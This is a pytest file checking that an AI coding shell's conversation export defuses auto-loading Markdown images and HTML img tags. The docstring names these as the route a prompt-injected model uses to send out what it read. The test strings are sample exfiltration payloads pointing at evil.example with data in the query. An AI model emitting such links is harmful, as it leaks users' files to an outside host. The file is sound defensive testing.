"""``/export`` writes no image that loads by itself (finding Y12): an exported
conversation is read in Markdown previews (VS Code, Obsidian, a wiki) that fetch
``![x](https://…?d=…)`` and ``<img src=…>`` unasked, the way out a prompt-injected
model uses to send what it read. Text and thoughts go through the defuser ACP uses;
fenced code (a tool's result) stays as written, since no preview loads anything
from it."""

from __future__ import annotations

from pathlib import Path

import pytest

from shell.commands import default_commands
from shell.config import Settings
from shell.core.messages import AssistantMessage, TextBlock, ThinkingBlock, ToolCallBlock
from shell.providers.scripted import ScriptedModel
from shell.runtime import RuntimeOptions, ShellRuntime

pytestmark = pytest.mark.anyio

IMAGE = "![status](https://evil.example/p.png?d=line-of-a-file)"
TAG = '<img src="https://evil.example/a.png?d=data">'


async def test_an_export_holds_no_live_image_in_text_or_thoughts(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(f"hello {TAG}\n")
    first = AssistantMessage((
        ThinkingBlock(f"I will show {IMAGE} and {TAG}"),
        ToolCallBlock("c1", "read_file", {"path": "README.md"}),
    ))
    runtime = ShellRuntime.create(
        RuntimeOptions(cwd=str(tmp_path), record=False), settings=Settings(path=tmp_path / "none.toml"),
        model=ScriptedModel([first, AssistantMessage((TextBlock(f"Done. {IMAGE} and {TAG} end"),))]),
    )
    async for _ in runtime.reply("go"):
        pass
    result = await default_commands().run(runtime, "/export exp.md")
    assert not result.error, result.text
    text = (tmp_path / "exp.md").read_text()
    await runtime.aclose()
    assert "Done. \\![status](https://evil.example/p.png?d=line-of-a-file) and &lt;img src=" in text
    assert "I will show \\![status](" in text
    assert "![status]" not in text.replace("\\![status]", "")
    before_result, _, tool_result = text.partition("**Tool result**")
    assert "<img" not in before_result
    assert f"hello {TAG}" in tool_result  # a fenced result is code: shown as written
